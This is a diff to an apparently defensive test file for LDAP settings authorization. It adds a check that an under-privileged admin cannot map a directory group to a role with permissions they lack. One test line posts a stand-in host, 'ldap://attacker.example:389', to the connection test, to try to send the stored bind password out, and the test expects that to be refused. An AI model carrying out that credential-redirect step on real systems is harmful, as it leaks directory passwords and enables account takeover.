@@ -2,8 +2,9 @@
 // accounts. An admin with directory.manage who could not manage every account the directory
 // signs in may not change its server, bind or mapping (403 on the settings page, audited as
 // access.refused, nothing saved), nor send the stored bind password to another server with
-// "Test connection"; other settings still save. With a second slapd holding the same entry
-// under the attacker's password: the takeover fails.
+// "Test connection", nor map a directory group to a role they do not hold; other settings
+// still save. With a second slapd holding the same entry under the attacker's password: the
+// takeover fails.
 import { expect } from 'chai';
 import { describeEachDatabase, type Harness } from '../helpers/harness.js';
 import { asBuiltIn, asCustom } from '../admin/admin-kit.js';
@@ -58,6 +59,11 @@ describeEachDatabase('LDAP settings: changing where the directory signs in needs
     const tested = await actor.post('/admin/directory/ldap', form({ url: 'ldap://attacker.example:389', action: 'test' }));
     expect(tested.status).to.equal(403);
     expect(await refusals(h)).to.have.length(6);
+    // Nor map a directory group to a role carrying permissions the actor does not hold.
+    const mapped = await actor.post('/admin/directory/ldap', form({ groupDn_0: 'cn=admins,ou=groups,dc=example,dc=com', roleId_0: admin.id }));
+    expect(mapped.status).to.equal(400);
+    expect(mapped.text).to.include('You cannot map a group to this role: it carries permissions you do not hold (');
+    expect((await h.services.directory.ldapSettings.get()).settings.groupRoles).to.deep.equal([]);
 
     // Settings that do not decide who signs in still save, and record who saved them.
     expect((await actor.post('/admin/directory/ldap', form({ intervalMinutes: '60' }))).status).to.equal(303);
